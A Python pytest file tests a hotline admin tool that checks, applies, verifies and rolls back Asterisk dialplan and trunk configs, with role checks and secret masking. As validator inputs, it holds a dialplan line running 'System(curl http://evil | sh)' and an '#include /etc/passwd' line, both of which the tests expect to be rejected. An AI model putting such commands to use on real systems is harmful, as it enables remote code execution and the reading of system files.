"""/dialplan: check, diff, drafts, apply with verification and automatic rollback.

Asterisk is replaced by ``FakeAsterisk``, which reads the files the applier
writes the way Asterisk would (templates never become live) and answers the
CLI commands; the real sandbox is exercised by
tests/integration/test_dialplan_apply.py.
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from admin_ui.dialplan import http as dialplan_http
from hotline import dialplan_drafts as services
from hotline.dialplan_apply import CliResult, DialplanApplier
from hotline.models import AuditEntry
from hotline.models_dialplan import DialplanDraft, DialplanVersion
from hotline.settings import Settings
from tests.unit.ui_support import UiClient

GOLDEN = Path(__file__).parent / "golden" / "dialplan"
HTMX = {"HX-Request": "true"}
_HEADER = re.compile(r"^\[([^\]]+)\](\(!\))?", re.MULTILINE)

GOOD = "[custom-test]\nexten => 7000,1,Playback(hello-world)\n same => n,Hangup()\n"
TEMPLATE_ONLY = "[custom-tpl](!)\nexten => 7001,1,NoOp()\n"
TRUNKS = (
    "[carrier-auth]\ntype = auth\nusername = hotline\npassword = topsecret\n\n"
    "[carrier]\ntype = endpoint\noutbound_auth = carrier-auth\n"
)


@dataclass
class FakeAsterisk:
    """Answers like ``asterisk -rx`` from the files in ``etc``."""

    etc: Path
    commands: list[str] = field(default_factory=list)
    fail_reload: bool = False
    contexts: set[str] = field(default_factory=set)
    endpoints: set[str] = field(default_factory=set)

    def _live_sections(self, filename: str) -> set[str]:
        path = self.etc / filename
        text = path.read_text(encoding="utf-8") if path.exists() else ""
        # Like Asterisk: a template ("(!)") is never made live.
        return {m.group(1) for m in _HEADER.finditer(text) if not m.group(2)}

    async def run(self, command: str) -> CliResult:
        self.commands.append(command)
        if command in ("dialplan reload", "module reload res_pjsip.so"):
            if self.fail_reload:
                return CliResult(False, "Unable to connect to remote asterisk")
            self.contexts = self._live_sections("hotline-custom.conf")
            self.endpoints = self._live_sections("hotline-trunks.conf")
            return CliResult(True, "Dialplan reloaded.")
        if command.startswith("dialplan show "):
            name = command.removeprefix("dialplan show ")
            if name in self.contexts:
                return CliResult(True, f"[ Context '{name}' created by 'pbx_config' ]")
            return CliResult(False, f"There is no existence of '{name}' context")
        if command.startswith("pjsip show endpoint "):
            name = command.removeprefix("pjsip show endpoint ")
            if name in self.endpoints:
                return CliResult(True, f" Endpoint:  {name}    Unavailable   0 of inf")
            return CliResult(True, f"Unable to find object {name}.")
        return CliResult(False, "No such command")


@pytest.fixture
def asterisk(tmp_path: Path, seeded: Settings, monkeypatch: pytest.MonkeyPatch) -> FakeAsterisk:
    fake = FakeAsterisk(tmp_path / "etc")
    applier = DialplanApplier(fake.etc, fake)
    monkeypatch.setattr(dialplan_http, "applier_of", lambda state: applier)
    monkeypatch.setattr(dialplan_http, "settings_of", lambda state: seeded)
    return fake


def normalise(html: str) -> str:
    html = re.sub(r'name="csrf_token" value="[^"]+"', 'name="csrf_token" value="CSRF"', html)
    return "\n".join(line.rstrip() for line in html.strip().splitlines()) + "\n"


def assert_golden(name: str, html: str) -> None:
    path = GOLDEN / name
    if os.environ.get("HOTLINE_UPDATE_GOLDENS") == "1":
        path.write_text(normalise(html), encoding="utf-8")
    assert normalise(html) == path.read_text(encoding="utf-8"), f"golden {name} differs"


# --- the applier on its own -------------------------------------------------


async def test_given_valid_context_when_applied_then_written_reloaded_and_verified(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path)
    result = await DialplanApplier(tmp_path, fake).apply("dialplan", GOOD)
    assert result.status == "applied" and result.error == ""
    assert (tmp_path / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
    assert fake.commands == ["dialplan reload", "dialplan show custom-test"]


async def test_given_context_asterisk_does_not_make_live_then_previous_file_restored(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path)
    applier = DialplanApplier(tmp_path, fake)
    await applier.apply("dialplan", GOOD)
    result = await applier.apply("dialplan", TEMPLATE_ONLY)
    assert result.status == "rolled_back"
    assert "custom-tpl" in result.error
    assert (tmp_path / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
    assert fake.commands[-1] == "dialplan reload"  # the rollback reloads the old file
    assert fake.contexts == {"custom-test"}


async def test_given_reload_fails_and_no_previous_file_then_file_removed_again(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path, fail_reload=True)
    result = await DialplanApplier(tmp_path, fake).apply("dialplan", GOOD)
    assert result.status == "rolled_back"
    assert "dialplan reload" in result.error and "failed too" in result.error
    assert not (tmp_path / "hotline-custom.conf").exists()
    assert fake.commands == ["dialplan reload", "dialplan reload"]


async def test_given_checker_errors_then_rejected_without_touching_asterisk(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path)
    result = await DialplanApplier(tmp_path, fake).apply("dialplan", "#include /etc/passwd\n")
    assert result.status == "rejected" and "include_forbidden" in result.error
    assert fake.commands == [] and not (tmp_path / "hotline-custom.conf").exists()


async def test_given_trunks_then_pjsip_reloaded_and_each_endpoint_verified(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path)
    result = await DialplanApplier(tmp_path, fake).apply("trunks", TRUNKS)
    assert result.ok
    assert fake.commands == ["module reload res_pjsip.so", "pjsip show endpoint carrier"]


async def test_given_new_include_file_then_parent_file_marked_changed_for_the_reload(
    tmp_path: Path,
) -> None:
    parent = tmp_path / "pjsip.conf"
    parent.write_text("#tryinclude hotline-trunks.conf\n", encoding="utf-8")
    os.utime(parent, (1_000_000, 1_000_000))
    await DialplanApplier(tmp_path, FakeAsterisk(tmp_path)).apply("trunks", TRUNKS)
    assert parent.stat().st_mtime > 1_000_000


# --- the pages --------------------------------------------------------------


async def test_given_auditor_then_index_lists_both_documents(ui: UiClient) -> None:
    await ui.login("auditor")
    response = await ui.get("/dialplan")
    assert response.status_code == 200
    assert ui.last.template == "dialplan/index.html"
    assert [d["kind"] for d in ui.last.context["documents"]] == ["dialplan", "trunks"]
    assert 'data-testid="dialplan-open-trunks"' in response.text


async def test_given_rendered_config_then_read_only_with_secrets_masked(
    ui: UiClient, asterisk: FakeAsterisk, seeded: Settings
) -> None:
    await ui.login("auditor")
    response = await ui.get("/dialplan/rendered")
    assert ui.last.template == "dialplan/rendered.html"
    names = [f.name for f in ui.last.context["files"]]
    assert "extensions.conf" in names and "pjsip.conf" in names and "manager.conf" in names
    assert seeded.ami_secret not in response.text and seeded.ari_password not in response.text
    assert "********" in response.text
    assert "<textarea" not in response.text and '<form method="post" action="/dialplan' not in (
        response.text
    )


async def test_given_unknown_document_or_version_then_404(ui: UiClient) -> None:
    await ui.login("telecom_engineer")
    assert (await ui.get("/dialplan/nope")).status_code == 404
    assert (await ui.get("/dialplan/dialplan/versions/abc")).status_code == 404
    assert (await ui.get("/dialplan/dialplan/versions/999")).status_code == 404


async def test_given_supervisor_then_refused_and_auditor_cannot_check(ui: UiClient) -> None:
    await ui.login("supervisor")
    assert (await ui.get("/dialplan")).status_code == 403
    await ui.login("auditor")
    assert (await ui.post("/dialplan/dialplan/check", {"text": GOOD})).status_code == 403
    assert ui.last.context["reason"] == "permission_denied"


async def test_given_htmx_check_of_valid_text_then_review_partial_with_diff(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    response = await ui.post("/dialplan/dialplan/check", {"text": GOOD}, headers=HTMX)
    assert response.status_code == 200
    assert ui.last.template == "dialplan/_review.html"
    review = ui.last.context["review"]
    assert review.check.ok and "+[custom-test]" in review.diff
    assert_golden("review_ok.html", response.text)
    assert asterisk.commands == []  # a check never touches Asterisk


async def test_given_htmx_check_of_broken_text_then_findings_name_the_line(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    text = "[custom-x]\nexten => 1,1,NoOp(\n"
    response = await ui.post("/dialplan/dialplan/check", {"text": text}, headers=HTMX)
    assert [(e.line, e.code) for e in ui.last.context["review"].check.errors] == [(2, "unbalanced")]
    assert 'data-line="2"' in response.text and "disabled" in response.text
    assert_golden("review_errors.html", response.text)


async def test_given_plain_check_then_whole_editor_keeps_the_text(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    await ui.post("/dialplan/dialplan/check", {"text": "[a]\r\nexten => 1,1,NoOp()\r\n"})
    assert ui.last.template == "dialplan/editor.html"
    assert ui.last.context["text"] == "[a]\nexten => 1,1,NoOp()\n"  # CRLF from a textarea


async def test_given_empty_form_then_400_naming_the_field(ui: UiClient) -> None:
    await ui.login("telecom_engineer")
    for action in ("check", "save", "apply"):
        response = await ui.post(f"/dialplan/dialplan/{action}", {})
        assert response.status_code == 400, action
        assert response.json()["details"] == {"field": "text"}


async def test_given_save_then_draft_stored_and_audited(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    response = await ui.post("/dialplan/trunks/save", {"text": TRUNKS})
    assert response.status_code == 303
    assert response.headers["location"] == "/dialplan/trunks?saved=1"
    draft = await DialplanDraft.get(kind="trunks")
    assert draft.text == TRUNKS and draft.updated_by == "telecom_engineer"
    entry = await AuditEntry.filter(action="save_draft").first()
    assert entry is not None and entry.object_id == "trunks"
    assert entry.before == {"text": ""}
    assert "password = ********" in entry.after["text"] and "topsecret" not in entry.after["text"]
    await ui.get("/dialplan/trunks?saved=1")
    assert ui.last.context["saved"] is True and ui.last.context["text"] == TRUNKS


async def test_given_valid_apply_then_version_applied_file_live_and_audited(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    response = await ui.post("/dialplan/dialplan/apply", {"text": GOOD})
    assert response.status_code == 303
    version = await DialplanVersion.get(kind="dialplan")
    assert response.headers["location"] == f"/dialplan/dialplan?version={version.id}"
    assert (version.result, version.applied_by, version.text) == (
        "applied",
        "telecom_engineer",
        GOOD,
    )
    assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
    assert asterisk.contexts == {"custom-test"}
    entry = await AuditEntry.filter(action="apply").first()
    assert entry is not None
    assert entry.before == {"text": ""}
    assert entry.after["result"] == "applied" and entry.after["text"] == GOOD
    page = await ui.get(response.headers["location"])
    assert ui.last.context["outcome"].result == "applied"
    assert 'data-result="applied"' in page.text
    # The next check diffs against what is now applied: nothing changed.
    await ui.post("/dialplan/dialplan/check", {"text": GOOD}, headers=HTMX)
    assert ui.last.context["review"].diff == ""


async def test_given_apply_that_asterisk_does_not_take_then_rolled_back_and_shown(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    await ui.post("/dialplan/dialplan/apply", {"text": GOOD})
    response = await ui.post("/dialplan/dialplan/apply", {"text": TEMPLATE_ONLY})
    assert response.status_code == 303
    failed = await DialplanVersion.filter(kind="dialplan").first()
    assert failed is not None and failed.result == "rolled_back"
    assert "custom-tpl" in failed.error
    assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
    assert await services.applied_text("dialplan") == GOOD
    page = await ui.get(response.headers["location"])
    assert ui.last.context["outcome"].result == "rolled_back"
    assert ui.last.context["text"] == TEMPLATE_ONLY  # what was typed is not lost
    assert "rolled back automatically" in page.text
    entry = await AuditEntry.filter(action="apply").first()
    assert entry is not None and entry.after["result"] == "rolled_back"
    assert entry.before == {"text": GOOD}


async def test_given_apply_with_check_errors_then_422_form_kept_and_asterisk_untouched(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    text = "[from-pstn]\nexten => 1,1,NoOp()\n"
    response = await ui.post("/dialplan/dialplan/apply", {"text": text})
    assert response.status_code == 422
    assert ui.last.template == "dialplan/editor.html"
    assert ui.last.context["text"] == text
    assert [e.code for e in ui.last.context["review"].check.errors] == ["hotline_context"]
    assert ui.last.context["outcome"].result == "rejected"
    assert asterisk.commands == [] and not (asterisk.etc / "hotline-custom.conf").exists()


async def test_given_apply_needs_publish_then_auditor_refused(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("auditor")
    assert (await ui.post("/dialplan/dialplan/apply", {"text": GOOD})).status_code == 403
    assert asterisk.commands == [] and await DialplanVersion.all().count() == 0


async def test_given_trunk_passwords_then_viewer_sees_them_masked_editor_in_clear(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    await ui.post("/dialplan/trunks/apply", {"text": TRUNKS})
    assert asterisk.commands[-1] == "pjsip show endpoint carrier"
    await ui.get("/dialplan/trunks")
    assert "topsecret" in ui.last.context["text"]
    version = await DialplanVersion.get(kind="trunks")
    await ui.login("auditor")
    page = await ui.get("/dialplan/trunks")
    assert "topsecret" not in page.text and "password = ********" in page.text
    assert "readonly" in page.text and 'data-testid="dialplan-check"' not in page.text
    page = await ui.get(f"/dialplan/trunks/versions/{version.id}")
    assert ui.last.template == "dialplan/version.html"
    assert "topsecret" not in page.text


async def test_given_old_version_then_viewable_with_diff_and_loadable_into_editor(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    await ui.post("/dialplan/dialplan/apply", {"text": GOOD})
    first = await DialplanVersion.get(kind="dialplan")
    newer = GOOD.replace("7000", "7100")
    await ui.post("/dialplan/dialplan/apply", {"text": newer})
    await ui.get(f"/dialplan/dialplan/versions/{first.id}")
    assert ui.last.context["version"].id == first.id
    assert "-exten => 7100" in ui.last.context["diff"]
    await ui.get(f"/dialplan/dialplan?from_version={first.id}")
    assert ui.last.context["text"] == GOOD
    assert [v.result for v in ui.last.context["versions"]] == ["applied", "applied"]


async def test_given_someone_applied_since_the_diff_then_409_with_fresh_diff_nothing_applied(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    await ui.post("/dialplan/dialplan/check", {"text": GOOD}, headers=HTMX)
    reviewed_against = ui.last.context["review"].base_version
    assert reviewed_against is None  # nothing applied yet
    await ui.post("/dialplan/dialplan/apply", {"text": GOOD, "base_version": ""})
    other = GOOD.replace("7000", "7200")
    response = await ui.post("/dialplan/dialplan/apply", {"text": other, "base_version": ""})
    assert response.status_code == 409
    assert ui.last.context["stale"] is True and ui.last.context["text"] == other
    assert "-exten => 7000" in ui.last.context["review"].diff
    assert await DialplanVersion.all().count() == 1
    assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD


@pytest.mark.security
async def test_given_system_call_when_applied_from_the_ui_then_422_naming_it_in_both_languages(
    ui: UiClient, asterisk: FakeAsterisk
) -> None:
    await ui.login("telecom_engineer")
    text = "[custom-x]\nexten => 1,1,Answer()\n same => n,System(curl http://evil | sh)\n"
    response = await ui.post("/dialplan/dialplan/apply", {"text": text})
    assert response.status_code == 422
    assert [(e.line, e.code) for e in ui.last.context["review"].check.errors] == [
        (3, "application_not_allowed")
    ]
    assert "Line 3: the application System is not allowed" in response.text
    assert asterisk.commands == [] and not (asterisk.etc / "hotline-custom.conf").exists()
    await ui.post("/language", {"language": "zh-CN", "next": "/dialplan"})
    response = await ui.post("/dialplan/dialplan/check", {"text": text}, headers=HTMX)
    assert "第 3 行：自定义拨号计划中不允许使用应用 System" in response.text
